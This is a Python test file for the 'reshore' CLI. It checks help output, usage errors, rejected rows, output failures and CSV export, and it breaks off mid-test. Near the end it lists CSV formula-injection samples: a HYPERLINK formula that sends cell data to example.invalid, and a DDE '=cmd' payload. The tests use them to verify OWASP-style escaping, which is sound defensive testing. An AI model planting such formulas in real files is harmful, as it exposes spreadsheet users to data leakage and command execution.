"""test_run.py - Command-line tests of `reshore run`, --help and --version

Each test runs the built binary, checks stdout, stderr and the exit
status, and reads the workbook back where one is written. The small job
in tests/data/cli (bom.csv, locations.csv, reshore.ini) has four items
at three locations and gives no warnings. bom-bad-number.csv is the
same BOM with the price '12,5O' on line 3.
"""

import csv
import gzip
import io
import math
import os
import re
import shutil
import signal
import time
import zipfile

import support
from support import CliTest, FAILED, OK, REJECTED, USAGE

def project_version():
    """The version in the top-level CMakeLists.txt."""
    with open(os.path.join(support.SOURCE, "CMakeLists.txt")) as fp:
        match = re.search(r"project\(reshore VERSION (\d+\.\d+\.\d+)",
                          fp.read())
    return match.group(1)


def small_job(name, bom="bom.csv"):
    """Copy the small job into a fresh folder; the BOM @bom of
    tests/data/cli becomes bom.csv. Returns the folder."""
    folder = support.scratch(name)
    support.copy(os.path.join(support.CLI_DATA, bom), folder, "bom.csv")
    support.copy(os.path.join(support.CLI_DATA, "locations.csv"), folder)
    support.copy(os.path.join(support.CLI_DATA, "reshore.ini"), folder)
    return folder


def job_args(out="out.xlsx", bom="bom.csv", *extra):
    return (["run", "--bom", bom, "--locations", "locations.csv",
             "--config", "reshore.ini", "-o", out] + list(extra))


def make_previous(folder, name="out.xlsx"):
    """Write a real workbook at @folder/@name and return its bytes."""
    result = support.run(job_args(name), cwd=folder)
    if result.status != OK:
        raise AssertionError("previous workbook not written\n"
                             + result.describe())
    return support.read_bytes(os.path.join(folder, name))


class HelpAndVersion(CliTest):

    def check_usage(self, result):
        self.assertStatus(result, OK)
        self.assertTrue(result.stdout.startswith("Usage: reshore"),
                        result.describe())
        self.assertInStdout("Exit status:", result)
        self.assertInStdout("  3  nothing written", result)
        self.assertStderrEmpty(result)

    def test_help_long(self):
        self.check_usage(support.run(["--help"]))

    def test_help_short(self):
        self.check_usage(support.run(["-h"]))

    def test_help_after_run(self):
        self.check_usage(support.run(["run", "--help"]))

    def test_help_after_check(self):
        self.check_usage(support.run(["check", "--help"]))

    def test_help_command(self):
        self.check_usage(support.run(["help"]))

    def test_version_long(self):
        result = support.run(["--version"])
        self.assertStatus(result, OK)
        self.assertEqual(result.stdout,
                         "reshore %s\n" % project_version())
        self.assertStderrEmpty(result)

    def test_version_short(self):
        result = support.run(["-V"])
        self.assertStatus(result, OK)
        self.assertEqual(result.stdout,
                         "reshore %s\n" % project_version())
        self.assertStderrEmpty(result)


class UsageErrors(CliTest):
    """Status 2, nothing on stdout, one line on stderr naming --help,
    and no output file."""

    def check_usage_error(self, args, mention=None):
        folder = small_job("usage")
        result = support.run(args, cwd=folder)
        self.assertStatus(result, USAGE)
        self.assertStdoutEmpty(result)
        lines = result.stderr.splitlines()
        self.assertEqual(len(lines), 1, result.describe())
        self.assertIn("--help", lines[0], result.describe())
        if mention:
            self.assertIn(mention, lines[0], result.describe())
        self.assertEqual(sorted(os.listdir(folder)),
                         ["bom.csv", "locations.csv", "reshore.ini"])

    def test_no_command(self):
        self.check_usage_error([])

    def test_unknown_command(self):
        self.check_usage_error(["frobnicate"], "'frobnicate'")

    def test_unknown_global_option(self):
        self.check_usage_error(["--frobnicate", "run"], "'--frobnicate'")

    def test_unknown_run_option(self):
        self.check_usage_error(job_args() + ["--frobnicate"],
                               "'--frobnicate'")

    def test_missing_output(self):
        self.check_usage_error(["run", "--bom", "bom.csv", "--locations",
                                "locations.csv", "--config",
                                "reshore.ini"], "-o")

    def test_missing_bom(self):
        self.check_usage_error(["run", "--locations", "locations.csv",
                                "-o", "out.xlsx"], "--bom")

    def test_missing_locations(self):
        self.check_usage_error(["run", "--bom", "bom.csv", "-o",
                                "out.xlsx"], "--locations")

    def test_option_without_value(self):
        self.check_usage_error(["run", "-o", "out.xlsx", "--bom"],
                               "'--bom'")

    def test_unexpected_argument(self):
        self.check_usage_error(job_args() + ["extra.csv"], "'extra.csv'")

    def test_bad_in_memory_rows(self):
        self.check_usage_error(job_args() + ["--in-memory-rows", "12k"],
                               "'12k'")

    def test_in_memory_rows_overflow(self):
        self.check_usage_error(
            job_args() + ["--in-memory-rows", "99999999999999999999"],
            "'99999999999999999999'")

    def test_output_to_stdout(self):
        result = support.run(["run", "--bom", "b.csv", "--locations",
                              "l.csv", "-o", "-"])
        self.assertStatus(result, USAGE)
        self.assertInStderr("standard output", result)

    def test_empty_output_name(self):
        # An empty -o is no output name at all: a usage error before any
        # input is read, like a missing -o.
        self.check_usage_error(job_args(""), "-o")

    def test_output_is_a_folder(self):
        self.check_usage_error(job_args("out/"), "-o 'out/' is a folder")

    def test_empty_path_option(self):
        self.check_usage_error(job_args() + ["--tmpdir", ""],
                               "option '--tmpdir' has an empty value")

    def test_option_given_twice(self):
        self.check_usage_error(job_args() + ["--bom", "other.csv"],
                               "option '--bom' is given twice ('bom.csv', "
                               "then 'other.csv'); give it once")


class BicycleSample(CliTest):
    """samples/bicycle: 88 BOM rows, 48 bought parts, 11 locations
    (samples/bicycle/README.md), run from the source tree as the README
    shows."""

    @classmethod
    def setUpClass(cls):
        cls.folder = support.scratch("bicycle")
        cls.out = os.path.join(cls.folder, "bicycle.xlsx")
        cls.result = support.run(
            ["run", "--bom", "samples/bicycle/bom.csv", "--config",
             "samples/bicycle/reshore.ini", "-o", cls.out],
            cwd=support.SOURCE)

    def test_status(self):
        self.assertStatus(self.result, OK)

    def test_no_rejections_or_errors(self):
        self.assertNotInStderr("[rejected]", self.result)
        self.assertNotInStderr("[error]", self.result)

    def test_summary_counts(self):
        out = self.result.stdout
        self.assertIn("reshore %s: 48 purchased items at 11 locations\n"
                      % project_version(), out)
        self.assertIn("  BOM        samples/bicycle/bom.csv: 88 rows\n",
                      out)
        self.assertIn("  locations  samples/bicycle/locations.csv: "
                      "11 rows\n", out)
        self.assertIn("  compared   528 item-location rows", out)
        self.assertIn("  workbook   %s\n" % self.out, out)

    def test_summary_saving_matches_workbook(self):
        match = re.search(r"total annual saving at the best locations: "
                          r"EUR ([\d,]+\.\d\d) \((\d+\.\d) %\)",
                          self.result.stdout)
        self.assertIsNotNone(match, self.result.describe())
        figures = support.summary_figures(self.out)
        saving = support.figure(figures, "Annual saving", "Saving per year")
        current = support.figure(figures, "Annual cost now",
                                 "Cost now, per year")
        self.assertGreater(saving, 0)
        self.assertEqual(match.group(1), "{:,.2f}".format(saving))
        self.assertEqual(match.group(2),
                         "%.1f" % (100.0 * saving / current))

    def test_workbook_package(self):
        self.assertPackage(self.out)

    def test_workbook_sheets(self):
        self.assertEqual(support.sheet_names(self.out),
                         ["Summary", "Charts", "Detail", "Roll-up",
                          "Assumptions", "Problems", "Run"])

    def test_workbook_counts(self):
        figures = support.summary_figures(self.out)
        self.assertEqual(figures["Purchased items"], 48)
        self.assertEqual(figures["Locations"], 11)
        self.assertEqual(figures["Detail rows"], 528)
        self.assertEqual(len(support.summary_items(self.out)), 48)
        self.assertEqual(len(support.detail(self.out)), 528)


class SmallJob(CliTest):
    """The small job: four items, three locations, no problems."""

    @classmethod
    def setUpClass(cls):
        cls.folder = small_job("small")
        cls.result = support.run(job_args(), cwd=cls.folder)
        cls.out = os.path.join(cls.folder, "out.xlsx")

    def test_status_and_streams(self):
        self.assertStatus(self.result, OK)
        self.assertStderrEmpty(self.result)
        self.assertInStdout("4 purchased items at 3 locations\n",
                            self.result)
        self.assertInStdout("  BOM        bom.csv: 4 rows\n", self.result)
        self.assertInStdout("  compared   12 item-location rows, "
                            "12 priced\n", self.result)
        self.assertInStdout("  problems   ", self.result)
        self.assertInStdout("0 rejected rows, 0 warnings", self.result)
        self.assertInStdout("  workbook   out.xlsx\n", self.result)

    def test_values_read(self):
        rows = support.detail(self.out)
        self.assertEqual(len(rows), 12)
        current = {r["Item"]: r for r in rows if r["Location"] == "CN-SZX"}
        self.assertEqual(current["P-1001"]["Annual quantity"], 10000)
        self.assertEqual(current["P-1003"]["Annual quantity"], 200)
        self.assertEqual(current["P-1003"]["Price basis"], "current price")
        self.assertAlmostEqual(current["P-1003"]["Price"], 1234.56)
        self.assertAlmostEqual(current["P-1002"]["Price"], 12.5)
        self.assertEqual(current["P-1004"]["Description"], "Kabelboom 2 m")

    def test_package(self):
        self.assertPackage(self.out)


class RejectedRow(CliTest):
    """bom.csv line 3 has the price '12,5O' (letter O)."""

    LINE = ("bom.csv:3:4: column 'unit_price': value '12,5O' is not a "
            "number; expected a number such as 12,50 [rejected]")

    @classmethod
    def setUpClass(cls):
        cls.folder = small_job("rejected", "bom-bad-number.csv")
        cls.result = support.run(job_args(), cwd=cls.folder)
        cls.out = os.path.join(cls.folder, "out.xlsx")

    def test_status(self):
        self.assertStatus(self.result, REJECTED)

    def test_message_exact(self):
        self.assertIn(self.LINE, self.result.stderr.splitlines(),
                      self.result.describe())

    def test_only_that_row_reported(self):
        self.assertEqual(self.result.stderr.count("[rejected]"), 1,
                         self.result.describe())

    def test_summary_counts_the_rejection(self):
        self.assertInStdout("  BOM        bom.csv: 4 rows, 1 rejected\n",
                            self.result)
        self.assertInStdout("1 rejected row,", self.result)

    def test_row_absent_others_present(self):
        rows = support.detail(self.out)
        items = sorted({r["Item"] for r in rows})
        self.assertEqual(items, ["P-1001", "P-1003", "P-1004"])
        self.assertEqual(len(rows), 9)
        summary = [r["Item"] for r in support.summary_items(self.out)]
        self.assertEqual(sorted(summary), ["P-1001", "P-1003", "P-1004"])

    def test_problems_sheet_row(self):
        rejected = [p for p in support.problems(self.out)
                    if p["Severity"] == "rejected"]
        self.assertEqual(len(rejected), 1, rejected)
        p = rejected[0]
        self.assertEqual(p["File"], "bom.csv")
        self.assertEqual(p["Line"], 3)
        self.assertEqual(p["Column"], 4)
        self.assertEqual(p["Field"], "unit_price")
        self.assertEqual(p["Value"], "12,5O")
        self.assertEqual(p["Item"], "P-1002")
        self.assertEqual(p["Problem"], "is not a number")

    def test_package(self):
        self.assertPackage(self.out)


class ProblemFileNames(CliTest):
    """The Problems sheet names a file by its name alone, whatever path
    was given; two inputs of the same name keep their paths."""

    def run_in(self, name, bom, locations):
        """Run with the small job's files copied to @bom and @locations
        (paths in the job folder) and absolute paths on the command
        line. Return the File of each rejected row."""
        folder = small_job("names-" + name, "bom-bad-number.csv")
        for source, target in (("bom.csv", bom),
                               ("locations.csv", locations)):
            target = os.path.join(folder, target)
            os.makedirs(os.path.dirname(target), exist_ok=True)
            if target != os.path.join(folder, source):
                shutil.copyfile(os.path.join(folder, source), target)
        args = ["run", "--bom", os.path.join(folder, bom), "--locations",
                os.path.join(folder, locations), "--config",
                os.path.join(folder, "reshore.ini"), "-o",
                os.path.join(folder, "out.xlsx")]
        result = support.run(args, cwd=folder)
        self.assertStatus(result, REJECTED)
        return [p["File"] for p in support.problems(
            os.path.join(folder, "out.xlsx")) if p["Severity"] == "rejected"]

    def test_absolute_path_shows_name(self):
        self.assertEqual(self.run_in("absolute", "bom.csv", "locations.csv"),
                         ["bom.csv"])

    def test_same_name_keeps_path(self):
        files = self.run_in("same", "erp/export.csv", "sites/export.csv")
        self.assertEqual(len(files), 1, files)
        self.assertTrue(files[0].endswith("/erp/export.csv"), files)


class UnusableInput(CliTest):
    """A file that cannot be used as a whole: status 3, a message naming
    it, no workbook, and an existing workbook left byte-identical."""

    def run_unusable(self, name, bom_source=None, bom="bom.csv",
                     locations_source=None):
        folder = small_job("unusable-" + name)
        previous = make_previous(folder, "previous.xlsx")
        if bom_source:
            support.copy(bom_source, folder, bom)
        if locations_source:
            support.copy(locations_source, folder, "locations.csv")
        fresh = support.run(job_args("fresh.xlsx", bom), cwd=folder)
        kept = support.run(job_args("previous.xlsx", bom), cwd=folder)
        self.assertStatus(fresh, FAILED)
        self.assertStatus(kept, FAILED)
        self.assertStdoutEmpty(fresh)
        self.assertInStderr("nothing written", fresh)
        self.assertNoWorkbook(os.path.join(folder, "fresh.xlsx"), fresh)
        self.assertEqual(
            support.read_bytes(os.path.join(folder, "previous.xlsx")),
            previous, "the existing workbook changed")
        self.assertNoTempFiles(folder)
        return fresh

    def test_missing_quantity_column(self):
        result = self.run_unusable(
            "no-quantity",
            os.path.join(support.CLI_DATA, "bom-no-quantity.csv"))
        self.assertInStderr("bom.csv:1:", result)

    def test_missing_quantity_column_named(self):
        # The message must name the missing required column, not only
        # report that no header row was found.
        result = self.run_unusable(
            "no-quantity-named",
            os.path.join(support.CLI_DATA, "bom-no-quantity.csv"))
        self.assertRegex(result.stderr, r"bom\.csv:1:[^\n]*quantity")

    def test_missing_country_column(self):
        result = self.run_unusable(
            "no-country", locations_source=os.path.join(
                support.CLI_DATA, "locations-no-country.csv"))
        self.assertInStderr("locations.csv:1:", result)

    def test_missing_country_column_named(self):
        result = self.run_unusable(
            "no-country-named", locations_source=os.path.join(
                support.CLI_DATA, "locations-no-country.csv"))
        self.assertRegex(result.stderr, r"locations\.csv:1:[^\n]*country")

    def test_empty_file(self):
        result = self.run_unusable(
            "empty", os.path.join(support.CASES, "39a-zero-byte.csv"))
        self.assertInStderr("bom.csv: empty file (no header)", result)

    def test_file_not_found(self):
        result = self.run_unusable("not-found", bom="no-such-bom.csv")
        self.assertInStderr("no-such-bom.csv: file not found", result)

    def test_truncated_gzip(self):
        result = self.run_unusable(
            "truncated-gz", os.path.join(support.CASES,
                                         "26-truncated.csv.gz"),
            bom="bom.csv.gz")
        self.assertInStderr("bom.csv.gz: truncated or corrupt gzip data",
                            result)

    def test_unterminated_quote(self):
        result = self.run_unusable(
            "unterminated", os.path.join(support.CASES,
                                         "08-unterminated-quote.csv"))
        self.assertInStderr("bom.csv:3: unterminated quoted field", result)

    def test_folder_as_input(self):
        result = self.run_unusable("folder", bom=".")
        self.assertInStderr(".: cannot read the file: Is a directory",
                            result)

    def test_all_rows_rejected(self):
        # Every row rejected leaves no item: nothing is written, so the
        # count of problems not shown must not point to a Problems sheet.
        folder = small_job("unusable-all-rejected")
        rows = ["item;description;annual_quantity;unit_price"]
        rows += ["P-%02d;Deel;10;%d,5O" % (i, i) for i in range(15)]
        support.write_text(os.path.join(folder, "bom.csv"),
                           "\n".join(rows) + "\n")
        result = support.run(job_args(), cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertEqual(result.stderr.count("[rejected]"), 10,
                         result.describe())
        self.assertInStderr("5 more like this", result)
        self.assertNoWorkbook(os.path.join(folder, "out.xlsx"), result)
        self.assertNotInStderr("Problems sheet", result)

    def test_missing_config(self):
        folder = small_job("unusable-config")
        result = support.run(["run", "--bom", "bom.csv", "--locations",
                              "locations.csv", "--config", "none.ini",
                              "-o", "out.xlsx"], cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertInStderr("none.ini: cannot open the config file",
                            result)
        self.assertNoWorkbook(os.path.join(folder, "out.xlsx"), result)


class OutputFolder(CliTest):
    """Where the workbook cannot be written."""

    def test_missing_folder_before_any_work(self):
        folder = small_job("out-missing")
        # The BOM does not exist either: a message about it would show
        # that inputs were read before the output folder was checked.
        result = support.run(job_args("no/such/out.xlsx", "absent.csv"),
                             cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertStdoutEmpty(result)
        self.assertInStderr("'no/such'", result)
        self.assertInStderr("No such file or directory", result)
        self.assertNotInStderr("absent.csv", result)

    def test_name_too_long(self):
        folder = small_job("out-long-name")
        name = "a" * 300 + ".xlsx"
        result = support.run(job_args(name), cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertInStderr("File name too long; choose a shorter output "
                            "name or folder [error]", result)
        self.assertNoTempFiles(folder)

    def test_read_only_folder(self):
        folder = small_job("out-read-only")
        out_dir = os.path.join(folder, "out")
        os.mkdir(out_dir)
        previous = make_previous(folder, "out/out.xlsx")
        os.chmod(out_dir, 0o555)
        try:
            result = support.run(job_args("out/out.xlsx", "absent.csv"),
                                 cwd=folder,
                                 user=support.restricted_user())
        finally:
            os.chmod(out_dir, 0o755)
        self.assertStatus(result, FAILED)
        self.assertInStderr("'out'", result)
        self.assertInStderr("Permission denied", result)
        self.assertNotInStderr("absent.csv", result)
        self.assertEqual(support.read_bytes(os.path.join(out_dir,
                                                         "out.xlsx")),
                         previous)
        self.assertNoTempFiles(out_dir)

    def test_read_only_previous_workbook(self):
        folder = small_job("out-read-only-file")
        previous = make_previous(folder)
        out = os.path.join(folder, "out.xlsx")
        os.chmod(out, 0o444)
        result = support.run(job_args(), cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertInStderr("out.xlsx: cannot replace the read-only "
                            "output file", result)
        self.assertEqual(support.read_bytes(out), previous)
        self.assertNoTempFiles(folder)

    def test_output_is_an_existing_folder(self):
        folder = small_job("out-is-folder")
        os.mkdir(os.path.join(folder, "out.xlsx"))
        result = support.run(job_args(), cwd=folder)
        self.assertStatus(result, USAGE)
        self.assertInStderr("-o 'out.xlsx' is a folder; give a file name "
                            "such as out.xlsx/out.xlsx", result)
        self.assertTrue(os.path.isdir(os.path.join(folder, "out.xlsx")))
        self.assertNoTempFiles(folder)

    def test_missing_tmpdir(self):
        folder = small_job("tmpdir-missing")
        previous = make_previous(folder)
        missing = os.path.join(folder, "no-tmp")
        result = support.run(job_args() + ["--tmpdir", missing],
                             cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertInStderr(missing, result)
        self.assertInStderr("temporary folder", result)
        self.assertEqual(support.read_bytes(os.path.join(folder,
                                                         "out.xlsx")),
                         previous)
        self.assertNoTempFiles(folder)

    def test_read_only_tmpdir(self):
        folder = small_job("tmpdir-read-only")
        out_dir = os.path.join(folder, "out")
        os.mkdir(out_dir)
        os.chmod(out_dir, 0o777)
        tmp = os.path.join(folder, "tmp")
        os.mkdir(tmp)
        os.chmod(tmp, 0o555)
        result = support.run(job_args("out/out.xlsx") + ["--tmpdir", tmp],
                             cwd=folder, user=support.restricted_user())
        self.assertStatus(result, FAILED)
        self.assertInStderr(tmp, result)
        self.assertInStderr("temporary folder", result)
        self.assertNoWorkbook(os.path.join(out_dir, "out.xlsx"), result)
        self.assertNoTempFiles(out_dir)
        self.assertEqual(os.listdir(tmp), [])

    def test_long_output_name(self):
        # 250 bytes is a valid file name on Linux file systems (the limit
        # is 255); the temporary name must not push it over the limit.
        folder = small_job("out-long-name")
        name = "a" * 245 + ".xlsx"
        result = support.run(job_args(name), cwd=folder)
        self.assertStatus(result, OK)
        self.assertPackage(os.path.join(folder, name))


class TemporaryDataLost(CliTest):
    """libxlsxwriter does not check its writes to its temporary files: a
    file-size limit (standing in for a full temporary folder) must fail
    the run cleanly in both workbook modes, never give a cut-off
    workbook."""

    LIMIT = 400 * 1024

    def make_job(self, name):
        folder = small_job(name)
        with open(os.path.join(folder, "bom.csv"), "w") as fp:
            fp.write("item,description,annual_quantity,unit_price,"
                     "unit_weight_kg\n")
            for i in range(3000):
                fp.write("P-%05d,Part %d with a long description text,"
                         "%d,%.2f,0.%03d\n" % (i, i, 10 + i, 1 + i / 100,
                                               i % 1000))
        return folder

    def check_clean_failure(self, folder, result, reason):
        self.assertStatus(result, FAILED)
        self.assertInStderr(reason, result)
        self.assertFalse(os.path.exists(os.path.join(folder, "out.xlsx")))
        leftovers = [n for n in os.listdir(folder) if ".tmp-" in n]
        self.assertEqual(leftovers, [])

    def test_in_memory_part_cut_off(self):
        folder = self.make_job("tmp-lost-memory")
        result = support.run(job_args(), cwd=folder,
                             file_size_limit=self.LIMIT)
        self.check_clean_failure(folder, result, "is cut off")

    def test_constant_memory_spool_fails(self):
        folder = self.make_job("tmp-lost-stream")
        result = support.run(job_args("out.xlsx", "bom.csv",
                                      "--in-memory-rows", "1"),
                             cwd=folder, file_size_limit=self.LIMIT)
        self.check_clean_failure(folder, result,
                                 "cannot write the temporary data")

    def test_same_job_without_limit_succeeds(self):
        folder = self.make_job("tmp-lost-control")
        result = support.run(job_args(), cwd=folder)
        self.assertStatus(result, OK)


class Compression(CliTest):
    """[run] compression chooses the deflate level of the package: zip
    records it in bits 1-2 of each part's flags (6 for level 1, 0 for the
    default level 6)."""

    def level_flags(self, config_line, *extra):
        folder = small_job("compression-%d" % len(self.id()))
        if config_line:
            with open(os.path.join(folder, "reshore.ini"), "a") as fp:
                fp.write("\n[run]\ncompression = %s\n" % config_line)
        result = support.run(job_args("out.xlsx", "bom.csv", *extra),
                             cwd=folder)
        self.assertStatus(result, OK)
        with zipfile.ZipFile(os.path.join(folder, "out.xlsx")) as zf:
            return {info.flag_bits & 6 for info in zf.infolist()
                    if info.compress_type == zipfile.ZIP_DEFLATED}

    def test_small_workbook_default_level(self):
        self.assertEqual(self.level_flags(None), {0})

    def test_streamed_workbook_fast(self):
        self.assertEqual(self.level_flags(None, "--in-memory-rows", "1"),
                         {6})

    def test_fast_on_request(self):
        self.assertEqual(self.level_flags("fast"), {6})

    def test_small_on_request(self):
        self.assertEqual(self.level_flags("small", "--in-memory-rows",
                                          "1"), {0})


class InputMistakes(CliTest):
    """Rows and configs that are wrong in ways people make."""

    def test_row_with_other_delimiter(self):
        folder = small_job("other-delimiter")
        with open(os.path.join(folder, "bom.csv")) as fp:
            lines = fp.read().splitlines()
        lines.append(lines[-1].replace(";", ",").replace("P-", "Q-"))
        with open(os.path.join(folder, "bom.csv"), "w") as fp:
            fp.write("\n".join(lines) + "\n")
        result = support.run(job_args(), cwd=folder)
        self.assertStatus(result, REJECTED)
        self.assertRegex(result.stderr,
                         r"bom\.csv:%d:1: value '[^']*' is one field where "
                         r"the header has \d+: the row is separated by "
                         r"comma, the file by semicolon" % len(lines))

    def test_config_maps_absent_optional_column(self):
        folder = small_job("absent-mapping")
        with open(os.path.join(folder, "reshore.ini"), "a") as fp:
            fp.write("\n[bom.columns]\nhs_code = Goederencode\n")
        result = support.run(job_args(), cwd=folder)
        self.assertStatus(result, OK)
        self.assertInStderr("'Goederencode' is not a column of this file",
                            result)
        self.assertTrue(os.path.exists(os.path.join(folder, "out.xlsx")))

    def test_out_of_range_setting_stops(self):
        folder = small_job("out-of-range-setting")
        with open(os.path.join(folder, "reshore.ini"), "a") as fp:
            fp.write("\n[run]\ncarrying_rate = 200\n")
        result = support.run(job_args(), cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertInStderr("[run] carrying_rate: value '200' is out of "
                            "range; expected a value from 0 % to 100 %",
                            result)
        self.assertFalse(os.path.exists(os.path.join(folder, "out.xlsx")))

    def test_non_xlsx_name_noted(self):
        folder = small_job("txt-name")
        result = support.run(job_args("out.txt"), cwd=folder)
        self.assertStatus(result, OK)
        self.assertInStderr("name it .xlsx", result)


class Verbosity(CliTest):

    def test_quiet_success_prints_nothing(self):
        folder = small_job("quiet")
        result = support.run(["-q"] + job_args(), cwd=folder)
        self.assertStatus(result, OK)
        self.assertStdoutEmpty(result)
        self.assertStderrEmpty(result)
        self.assertPackage(os.path.join(folder, "out.xlsx"))

    def test_quiet_after_command(self):
        folder = small_job("quiet-after")
        result = support.run(job_args() + ["--quiet"], cwd=folder)
        self.assertStatus(result, OK)
        self.assertStdoutEmpty(result)
        self.assertStderrEmpty(result)

    def test_quiet_keeps_rejections(self):
        # src/msg.h: errors and rejected rows are always printed; only
        # a repeated -q silences them.
        folder = small_job("quiet-rejected", "bom-bad-number.csv")
        result = support.run(["-q"] + job_args(), cwd=folder)
        self.assertStatus(result, REJECTED)
        self.assertStdoutEmpty(result)
        self.assertInStderr(RejectedRow.LINE, result)

    def test_quiet_keeps_errors(self):
        folder = small_job("quiet-error")
        support.copy(os.path.join(support.CASES,
                                  "08-unterminated-quote.csv"),
                     folder, "bom.csv")
        result = support.run(["-q"] + job_args(), cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertStdoutEmpty(result)
        self.assertInStderr("bom.csv:3: unterminated quoted field",
                            result)

    def test_quiet_twice_is_silent(self):
        # --help: "-q, --quiet  print only errors (repeat for silence)".
        folder = small_job("quiet-twice")
        support.copy(os.path.join(support.CASES,
                                  "08-unterminated-quote.csv"),
                     folder, "bom.csv")
        result = support.run(["-q", "-q"] + job_args(), cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertStdoutEmpty(result)
        self.assertStderrEmpty(result)

    def test_default_hides_dialect(self):
        folder = small_job("default-dialect")
        result = support.run(job_args(), cwd=folder)
        self.assertStatus(result, OK)
        self.assertNotInStderr("delimiter", result)

    def check_verbose(self, args):
        folder = small_job("verbose")
        result = support.run(args, cwd=folder)
        self.assertStatus(result, OK)
        lines = result.stderr.splitlines()
        self.assertIn("bom.csv: bom, delimiter semicolon, decimal comma "
                      "(from the data), UTF-8, header on line 1", lines,
                      result.describe())
        self.assertIn("locations.csv: locations, delimiter semicolon, "
                      "decimal comma (from the data), UTF-8, header on "
                      "line 1", lines, result.describe())
        self.assertInStdout("4 purchased items at 3 locations", result)

    def test_verbose_before_command(self):
        self.check_verbose(["-v"] + job_args())

    def test_verbose_after_command(self):
        self.check_verbose(job_args() + ["--verbose"])


class Repeatable(CliTest):
    """SOURCE_DATE_EPOCH makes the output byte-identical."""

    def run_twice(self, name, extra_env=None):
        folder = small_job(name)
        outputs = []
        for _ in range(2):
            result = support.run(
                job_args() + ["--detail-csv", "detail.csv.gz"],
                cwd=folder, env=extra_env)
            self.assertStatus(result, OK)
            outputs.append((
                support.read_bytes(os.path.join(folder, "out.xlsx")),
                support.read_bytes(os.path.join(folder, "detail.csv.gz"))))
            # A clock read would now differ by at least one second.
            time.sleep(1.1)
        return outputs

    def test_same_epoch_same_bytes(self):
        first, second = self.run_twice("repeat")
        self.assertEqual(first[0], second[0], "workbooks differ")
        self.assertEqual(first[1], second[1], "detail CSVs differ")

    def test_other_epoch_other_bytes(self):
        folder = small_job("repeat-other")
        support.run(job_args(), cwd=folder)
        first = support.read_bytes(os.path.join(folder, "out.xlsx"))
        result = support.run(job_args(), cwd=folder,
                             env={"SOURCE_DATE_EPOCH": "1767312000"})
        self.assertStatus(result, OK)
        self.assertNotEqual(
            support.read_bytes(os.path.join(folder, "out.xlsx")), first)


# Descriptions of tests/data/cases/20-formula-injection.csv by item, as
# written in the file (after CSV unquoting).
INJECTION_DESCRIPTIONS = {
    "P-2001": '=HYPERLINK("http://example.invalid/?d="&A1;"info")',
    "P-2002": "=1+1",
    "P-2003": "+31 20 555 0100 leverancier bellen",
    "P-2004": "-korting 5%",
    "P-2005": "@SUM(1,2)",
    "P-2006": "\t=1+1",
    "P-2007": "\r=1+1",
    "P-2008": "=cmd|' /C calc'!A0",
    "P-2009": "Korting",
    "=P-2010": "Sleutel met =",
}

# Columns of the detail CSV that hold text (include/reshore/detailcsv.h).
TEXT_COLUMNS = {"item", "description", "location", "country",
                "price_basis", "quote", "price_currency", "duty_source",
                "best", "location_name", "current", "quote_supplier",
                "duty_note"}


def owasp(text):
    """The text as OWASP's CSV-injection advice writes it."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") \
        else text


class DetailCsv(CliTest):
    """--detail-csv, plain and gzip, with formula-like input text."""

    @classmethod
    def setUpClass(cls):
        cls.folder = support.scratch("detail-csv")
        support.copy(os.path.join(support.CASES,
                                  "20-formula-injection.csv"),
                     cls.folder, "bom.csv")
        support.copy(os.path.join(support.CASES, "00-base-locations.csv"),
                     cls.folder, "locations.csv")
        support.copy(os.path.join(support.CLI_DATA, "cases.ini"),
                     cls.folder, "reshore.ini")
        cls.plain = support.run(job_args("plain.xlsx") +
                                ["--detail-csv", "detail.csv"],
                                cwd=cls.folder)
        cls.gz = support.run(job_args("gz.xlsx") +
                             ["--detail-csv", "detail.csv.gz"],
                             cwd=cls.folder)
        cls.upper = support.run(job_args("upper.xlsx") +
                                ["--detail-csv", "DETAIL.CSV.GZ"],
                                cwd=cls.folder)

    def read_csv(self, data):
        return list(csv.DictReader(io.StringIO(data.decode("utf-8"),
                                               newline="")))

    def plain_rows(self):
        return self.read_csv(support.read_bytes(
            os.path.join(self.folder, "detail.csv")))

    def test_status(self):
        self.assertStatus(self.plain, OK)
        self.assertStatus(self.gz, OK)
        self.assertInStdout("  detail CSV detail.csv\n", self.plain)
        self.assertInStdout("  detail CSV detail.csv.gz\n", self.gz)

    def test_rows(self):
        rows = self.plain_rows()
        self.assertEqual(len(rows), 10 * 3)
        self.assertEqual(len(rows), len(support.detail(
            os.path.join(self.folder, "plain.xlsx"))))

    def test_text_prefixed(self):
        rows = self.plain_rows()
        seen = set()
        for row in rows:
            item = row["item"]
            original = item[1:] if item.startswith("'") else item
            self.assertIn(original, INJECTION_DESCRIPTIONS, row)
            self.assertEqual(item, owasp(original))
            self.assertEqual(row["description"],
                             owasp(INJECTION_DESCRIPTIONS[original]), row)
            seen.add(original)
        self.assertEqual(seen, set(INJECTION_DESCRIPTIONS))

    def test_numbers_unprefixed(self):
        for row in self.plain_rows():
            for key, value in row.items():
                if key in TEXT_COLUMNS or value == "":
                    continue
                self.assertFalse(value.startswith("'"), (key, value))
                float(value)

    def test_negative_price_is_a_number(self):
        rows = [r for r in self.plain_rows()
                if r["item"] == "P-2009" and r["location"] == "Rotterdam"]
        self.assertEqual(len(rows), 1)
        self.assertEqual(float(rows[0]["price"]), -12.5)
        self.assertLess(float(rows[0]["landed_cost"]), 0)

    def test_gzip_same_content(self):
        data = support.read_bytes(os.path.join(self.folder,
                                               "detail.csv.gz"))
        self.assertEqual(data[:2], b"\x1f\x8b", "not gzip")
        self.assertEqual(gzip.decompress(data), support.read_bytes(
            os.path.join(self.folder, "detail.csv")))

    def test_gzip_suffix_any_case(self):
        self.assertStatus(self.upper, OK)
        data = support.read_bytes(os.path.join(self.folder,
                                               "DETAIL.CSV.GZ"))
        self.assertEqual(data[:2], b"\x1f\x8b", "not gzip")
        self.assertEqual(gzip.decompress(data), support.read_bytes(
            os.path.join(self.folder, "detail.csv")))

    def test_workbook_has_no_input_formulas(self):
        for name in ("plain.xlsx", "gz.xlsx"):
            for formula in support.formula_texts(
                    os.path.join(self.folder, name)):
